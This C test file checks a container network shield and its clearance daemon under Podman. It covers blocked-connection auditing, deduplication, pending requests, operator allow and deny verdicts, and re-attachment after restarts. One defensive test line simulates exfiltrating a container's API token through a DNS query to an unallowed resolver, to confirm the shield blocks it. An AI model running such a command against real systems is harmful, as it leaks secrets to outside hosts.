/* SPDX-License-Identifier: Apache-2.0 */
/* test-clearance-podman.c: blocked connections end to end, through the CLI with real Podman
 * (private service, slirp4netns with allow_host_loopback: the host's loopback is 10.0.2.2 in
 * the container, MACHINE.md §3/§5). The same binary runs rootful (root, Podman storage of its
 * own) and rootless (run-rootless.sh as the test user, its own Podman storage): the shield's
 * hook applies, an allowed server answers, a denied one is refused, the refused connect shows
 * up in `shield logs` within a second (once per destination: dedup), `clearance pending`
 * offers it, `clearance allow` opens it live; the daemon re-attaches after a restart, lets go
 * of a stopped container and catches it again at start; the audit and the daemon's log hold no
 * secret. Every CLI call is bounded by timeout(1). */
#include <arpa/inet.h>
#include <criterion/criterion.h>
#include <json-c/json.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "terok-test.h"

#define IMG "localhost/terok-busybox:test"
#define SECRET "terok-p-SECRETMARKER0123456789abcdefghijklmnopq"

static pid_t server = -1;
static int ports[2]; /* [0] allowed at run, [1] refused until a verdict */
static char name[64];

/* Loopback TCP servers that greet every connection with "hello". */
static void start_servers(void)
{
    int fds[2];

    for (int i = 0; i < 2; i++) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        socklen_t len = sizeof a;
        int one = 1;

        fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        cr_assert(fds[i] >= 0);
        setsockopt(fds[i], SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        cr_assert_eq(bind(fds[i], (struct sockaddr *)&a, sizeof a), 0);
        cr_assert_eq(listen(fds[i], 16), 0);
        cr_assert_eq(getsockname(fds[i], (struct sockaddr *)&a, &len), 0);
        ports[i] = ntohs(a.sin_port);
    }
    server = fork();
    cr_assert(server >= 0);
    if (server == 0) {
        alarm(900);
        for (;;) {
            struct pollfd p[2] = {{fds[0], POLLIN, 0}, {fds[1], POLLIN, 0}};

            if (poll(p, 2, -1) < 0)
                continue;
            for (int i = 0; i < 2; i++)
                if (p[i].revents & POLLIN) {
                    int c = accept(fds[i], NULL, NULL);
                    if (c >= 0) {
                        (void)!write(c, "hello\n", 6);
                        close(c);
                    }
                }
        }
    }
    close(fds[0]);
    close(fds[1]);
}

static cli_result cli(const char *const *argv)
{
    const char *full[32] = {"timeout", "180", getenv("TEROK_TEST_CLI")};
    size_t n = 3;

    for (; *argv && n < 31; argv++)
        full[n++] = *argv;
    full[n] = NULL;
    return test_run(NULL, full);
}
#define CLI(...) cli((const char *const[]){__VA_ARGS__, NULL})

static void ok(cli_result *r, const char *what)
{
    cr_assert_eq(r->exit_code, 0, "%s: exit %d\nstdout: %s\nstderr: %s", what, r->exit_code, r->out,
                 r->err);
}

static void run_ok(const char *what, const char *const *argv)
{
    cli_result r = cli(argv);

    ok(&r, what);
    cli_result_done(&r);
}
#define CLI_OK(what, ...) run_ok(what, (const char *const[]){__VA_ARGS__, NULL})

static int64_t now_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void sleep_ms(int ms)
{
    struct timespec ts = {ms / 1000, (long)(ms % 1000) * 1000000};

    nanosleep(&ts, NULL);
}

static char saved_home[1024], saved_xdg[1024];

static void setup(void)
{
    char conf[4096], podman[1024] = "/usr/bin/podman";

    if (access("/usr/bin/podman", X_OK) != 0 || access("/var/tmp/terok-busybox.tar", R_OK) != 0)
        cr_skip_test("podman or /var/tmp/terok-busybox.tar missing (scripts/setup-host.sh)");
    snprintf(saved_home, sizeof saved_home, "%s", getenv("HOME") ? getenv("HOME") : "");
    snprintf(saved_xdg, sizeof saved_xdg, "%s",
             getenv("XDG_CONFIG_HOME") ? getenv("XDG_CONFIG_HOME") : "");
    test_tmpdir_setup();
    if (geteuid() == 0) {
        /* rootful: storage of our own, so other runs cannot hold our locks */
        char script[4096];
        cli_result r;

        snprintf(script, sizeof script,
                 "#!/bin/sh\nexec /usr/bin/podman --root %s/podman/root --runroot "
                 "%s/podman/runroot --tmpdir %s/podman/tmp \"$@\"\n",
                 test_tmp, test_tmp, test_tmp);
        snprintf(podman, sizeof podman, "%s", test_write_file("podman.sh", script, 0755));
        r = test_run(NULL, (const char *const[]){"timeout", "120", podman, "import", "-q",
                                                 "/var/tmp/terok-busybox.tar", IMG, NULL});
        cr_assert_eq(r.exit_code, 0, "importing the test image: %s", r.err);
        cli_result_done(&r);
    } else {
        /* rootless Podman keeps its storage under the user's HOME (the image is there) */
        setenv("HOME", saved_home, 1);
        if (*saved_xdg)
            setenv("XDG_CONFIG_HOME", saved_xdg, 1);
        else
            unsetenv("XDG_CONFIG_HOME");
    }
    snprintf(conf, sizeof conf,
             "[core]\nplugin-dir = %s\n[runtime]\nbackend = podman\n[runtime.podman]\n"
             "socket = private\ntimeout = 120s\nservice-idle = 30s\npodman = %s\n"
             "[shield]\nbackend = nft\nprofiles =\n",
             getenv("TEROK_TEST_PLUGIN_DIR"), podman);
    setenv("TEROK_SANDBOX_CONFIG", test_write_file("sandbox.conf", conf, 0600), 1);
    snprintf(name, sizeof name, "clr%d", (int)getpid());
    start_servers();
}

static void teardown(void)
{
    cli_result r = CLI("rm", "-f", name);

    cli_result_done(&r);
    r = CLI("clearance", "stop");
    cli_result_done(&r);
    test_stop_private_podman(test_tmp);
    /* the overlay driver leaves storage mounted under our tmpdir (rootful) */
    test_unmount_under(test_tmp);
    if (server > 0) {
        kill(server, SIGKILL);
        waitpid(server, NULL, 0);
    }
    server = -1;
    test_tmpdir_teardown();
}

TestSuite(clearance_podman, .init = setup, .fini = teardown, .timeout = 600);

/* nc from inside the container to the host's loopback server; true when it greeted us. */
static bool reaches(int port)
{
    char cmd[96];
    cli_result r;
    bool hello;

    snprintf(cmd, sizeof cmd, "nc -w 3 10.0.2.2 %d </dev/null", port);
    r = CLI("exec", name, "sh", "-c", cmd);
    hello = r.out && strstr(r.out, "hello");
    cli_result_done(&r);
    return hello;
}

/* `shield logs --json`: one object per line; rows of `kind` to `port` (0: any). */
static int count_rows(const char *kind, int port, int *ret_total)
{
    cli_result r = CLI("shield", "logs", name, "--json");
    int n = 0, total = 0;

    ok(&r, "shield logs --json");
    for (char *line = strtok(r.out, "\n"); line; line = strtok(NULL, "\n")) {
        json_object *o = json_tokener_parse(line), *k = NULL, *p = NULL;

        cr_assert(o, "shield logs --json printed a line that is not JSON: %s", line);
        total++;
        json_object_object_get_ex(o, "kind", &k);
        json_object_object_get_ex(o, "port", &p);
        if (k && !strcmp(json_object_get_string(k), kind) &&
            (port == 0 || (p && json_object_get_int(p) == port)))
            n++;
        json_object_put(o);
    }
    cli_result_done(&r);
    if (ret_total)
        *ret_total = total;
    return n;
}

/* Poll the operator's view until a blocked row to `port` shows up; ms it took (-1: never). */
static int64_t wait_blocked(int port, int64_t limit_ms)
{
    int64_t t0 = now_ms();

    while (now_ms() - t0 <= limit_ms) {
        if (count_rows("blocked", port, NULL) > 0)
            return now_ms() - t0;
        sleep_ms(20);
    }
    return -1;
}

/* The daemon's view of the container: attached (with its pid) or not. */
static bool attached(void)
{
    cli_result r = CLI("clearance", "status", "--json");
    json_object *o, *arr = NULL;
    bool found = false;

    ok(&r, "clearance status");
    o = json_tokener_parse(r.out);
    cr_assert(o, "clearance status --json: %s", r.out);
    if (json_object_object_get_ex(o, "attached", &arr))
        for (size_t i = 0; i < json_object_array_length(arr); i++) {
            json_object *c = NULL;

            json_object_object_get_ex(json_object_array_get_idx(arr, i), "container", &c);
            if (c && !strcmp(json_object_get_string(c), name))
                found = true;
        }
    json_object_put(o);
    cli_result_done(&r);
    return found;
}

static bool wait_attached(bool want, int64_t limit_ms)
{
    int64_t t0 = now_ms();

    while (now_ms() - t0 <= limit_ms) {
        if (attached() == want)
            return true;
        sleep_ms(100);
    }
    return false;
}

static void run_container(void)
{
    char allow[64];

    snprintf(allow, sizeof allow, "10.0.2.2:%d", ports[0]);
    CLI_OK("install-hooks", "shield", "install-hooks");
    CLI_OK("run", "run", "-d", "--name", name, "--network", "slirp4netns:allow_host_loopback=true",
           "--allow", allow, "--env", "API_TOKEN=" SECRET, IMG, "sleep", "900");
}

static char *slurp(const char *path, size_t *ret_len)
{
    FILE *f = fopen(path, "re");
    char *b = NULL;
    size_t n = 0, cap = 0;

    if (!f)
        return NULL;
    for (;;) {
        if (n + 65536 > cap) {
            cap = cap * 2 + 65536;
            b = realloc(b, cap);
            cr_assert(b);
        }
        size_t k = fread(b + n, 1, cap - n, f);
        if (k == 0)
            break;
        n += k;
    }
    fclose(f);
    *ret_len = n;
    return b;
}

static bool file_has(const char *rel, const char *needle)
{
    size_t n = 0, k = strlen(needle);
    char *b = slurp(test_path(rel), &n);
    bool found = false;

    for (size_t i = 0; b && i + k <= n && !found; i++)
        found = memcmp(b + i, needle, k) == 0;
    free(b);
    return found;
}

Test(clearance_podman, blocked_event_dedup_pending_and_verdict)
{
    char dest[64], other[64];
    cli_result r;
    int64_t t;
    int total;

    run_container();
    /* `run` started the daemon on demand and it watches the container */
    cr_assert(attached(), "the clearance daemon does not watch the container after run");

    /* the hook applied: allowed answers, the rest is refused */
    cr_assert(reaches(ports[0]), "the allowed server does not answer");
    cr_assert(!reaches(ports[1]), "the shield let an unlisted server through");

    /* the refused connect is in the audit within a second */
    t = wait_blocked(ports[1], 1000);
    cr_assert(t >= 0, "the blocked connect did not reach `shield logs` within a second");
    r = CLI("shield", "logs", name);
    ok(&r, "shield logs");
    snprintf(dest, sizeof dest, "10.0.2.2:%d", ports[1]);
    cr_assert(strstr(r.out, "blocked") && strstr(r.out, dest) && strstr(r.out, "tcp"),
              "shield logs does not show the blocked destination %s:\n%s", dest, r.out);
    cli_result_done(&r);

    /* dedup: the same destination again within the window is not a new row */
    cr_assert(!reaches(ports[1]));
    cr_assert(!reaches(ports[1]));
    sleep_ms(500);
    cr_assert_eq(count_rows("blocked", ports[1], NULL), 1,
                 "the same destination was recorded more than once within the dedup window");

    /* a secret the container holds, sent in a UDP datagram (a DNS query for a name made of
     * it) to a resolver the shield does not allow */
    r = CLI("exec", name, "sh", "-c", "timeout 3 nslookup \"$API_TOKEN.example\" 10.0.2.2; true");
    cli_result_done(&r);
    cr_assert(wait_blocked(53, 2000) >= 0, "the blocked UDP datagram was not recorded");

    /* pending: both destinations, each once */
    r = CLI("clearance", "pending", "--json");
    ok(&r, "clearance pending");
    {
        json_object *arr = json_tokener_parse(r.out);
        int seen_tcp = 0, seen_udp = 0;

        cr_assert(arr && json_object_is_type(arr, json_type_array), "%s", r.out);
        for (size_t i = 0; i < json_object_array_length(arr); i++) {
            json_object *e = json_object_array_get_idx(arr, i), *p = NULL, *pr = NULL;

            json_object_object_get_ex(e, "port", &p);
            json_object_object_get_ex(e, "protocol", &pr);
            if (p && json_object_get_int(p) == ports[1] &&
                !strcmp(json_object_get_string(pr), "tcp"))
                seen_tcp++;
            if (p && json_object_get_int(p) == 53 && !strcmp(json_object_get_string(pr), "udp"))
                seen_udp++;
        }
        cr_assert_eq(seen_tcp, 1, "pending: %s", r.out);
        cr_assert_eq(seen_udp, 1, "pending: %s", r.out);
        json_object_put(arr);
    }
    cli_result_done(&r);

    /* a verdict must cite a pending request */
    snprintf(other, sizeof other, "10.0.2.2:%d", ports[1] == 65535 ? 1 : ports[1] + 1);
    r = CLI("clearance", "allow", name, other);
    cr_assert_eq(r.exit_code, 4, "a verdict on nothing pending: exit %d %s", r.exit_code, r.err);
    cr_assert(strstr(r.err, other), "the error does not name the destination: %s", r.err);
    cli_result_done(&r);
    cr_assert(!reaches(ports[1]));

    /* allow: live, no restart; the request is answered and audited with the operator */
    r = CLI("clearance", "allow", name, dest);
    ok(&r, "clearance allow");
    cli_result_done(&r);
    cr_assert(reaches(ports[1]), "clearance allow did not open the destination");
    cr_assert_eq(count_rows("allow", ports[1], NULL), 1, "the verdict is not in the audit");
    r = CLI("clearance", "pending", name);
    ok(&r, "clearance pending NAME");
    cr_assert(!strstr(r.out, dest), "an answered request is still pending:\n%s", r.out);
    cli_result_done(&r);

    /* deny by request id */
    r = CLI("clearance", "pending", name, "--json");
    ok(&r, "clearance pending --json");
    {
        json_object *arr = json_tokener_parse(r.out), *id = NULL;

        cr_assert(arr && json_object_array_length(arr) == 1, "%s", r.out);
        json_object_object_get_ex(json_object_array_get_idx(arr, 0), "id", &id);
        char ids[32];
        snprintf(ids, sizeof ids, "%s", json_object_get_string(id));
        json_object_put(arr);
        cli_result_done(&r);
        r = CLI("clearance", "deny", name, ids);
        ok(&r, "clearance deny ID");
    }
    cli_result_done(&r);
    cr_assert_eq(count_rows("deny", 53, &total), 1);
    cr_assert_geq(total, 4);

    /* --since in the future: nothing */
    r = CLI("shield", "logs", name, "--since", "2999-01-01T00:00:00Z");
    ok(&r, "shield logs --since");
    cr_assert_str_empty(r.out);
    cli_result_done(&r);

    /* no secret anywhere the audit or the daemon write */
    r = CLI("shield", "logs", name, "--json");
    cr_assert(!strstr(r.out, "SECRETMARKER"), "%s", r.out);
    cli_result_done(&r);
    cr_assert(!file_has("state/state.db", "SECRETMARKER"), "the secret reached the state store");
    cr_assert(!file_has("state/state.db-wal", "SECRETMARKER"), "the secret reached the WAL");
    cr_assert(!file_has("state/logs/clearance.log", "SECRETMARKER"),
              "the secret reached the daemon's log");
}

Test(clearance_podman, restart_reattaches_stop_detaches)
{
    cli_result r;

    run_container();
    cr_assert(attached());

    /* a new daemon finds the running container by itself */
    CLI_OK("clearance stop", "clearance", "stop");
    r = CLI("clearance", "status");
    ok(&r, "status");
    cr_assert(strstr(r.out, "no clearance daemon"), "%s", r.out);
    cli_result_done(&r);
    CLI_OK("clearance serve", "clearance", "serve");
    cr_assert(attached(), "the restarted daemon did not re-attach to the running container");
    cr_assert(!reaches(ports[1]));
    cr_assert(wait_blocked(ports[1], 1000) >= 0,
              "no event through the restarted daemon within a second");

    /* live allow through the shield still works (rootless: a child in the container's userns) */
    {
        char dest[64];

        snprintf(dest, sizeof dest, "10.0.2.2:%d", ports[1]);
        CLI_OK("shield allow", "shield", "allow", name, dest);
        cr_assert(reaches(ports[1]), "shield allow did not open the destination");
        CLI_OK("shield deny", "shield", "deny", name, dest);
    }

    /* stop: the daemon lets go of the container and its pending requests */
    CLI_OK("stop", "stop", name);
    cr_assert(wait_attached(false, 3000), "the daemon still watches a stopped container");
    r = CLI("clearance", "pending", name, "--json");
    ok(&r, "pending");
    cr_assert_str_eq(r.out, "[]\n", "a stopped container kept pending requests: %s", r.out);
    cli_result_done(&r);

    /* start: watched again, events flow from the new netns */
    CLI_OK("start", "start", name);
    cr_assert(attached(), "the daemon does not watch the restarted container");
    cr_assert(!reaches(9), "port 9 answered");
    cr_assert(wait_blocked(9, 1000) >= 0, "no event after the restart within a second");

    /* rm: the daemon forgets it; its audit stays readable */
    CLI_OK("rm", "rm", "-f", name);
    cr_assert(wait_attached(false, 2000));
    r = CLI("shield", "logs", name);
    ok(&r, "shield logs after rm");
    cr_assert(strstr(r.out, "blocked"), "%s", r.out);
    cli_result_done(&r);
}
